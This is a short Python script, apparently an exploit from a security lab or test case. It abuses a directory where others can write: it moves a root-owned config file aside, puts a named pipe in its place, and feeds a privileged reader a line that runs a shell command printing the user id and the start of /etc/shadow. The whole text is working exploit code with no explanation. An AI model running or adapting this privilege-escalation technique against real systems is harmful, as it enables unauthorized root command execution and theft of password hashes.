import os
os.rename('/srv/cases/security/u/web.conf','/srv/cases/security/u/old')   # root's file, but nobody's directory
os.mkfifo('/srv/cases/security/u/web.conf')
f=os.open('/srv/cases/security/u/web.conf',os.O_WRONLY)
os.write(f,b"command: /bin/sh -c 'id; head -c 24 /etc/shadow; echo'\n")
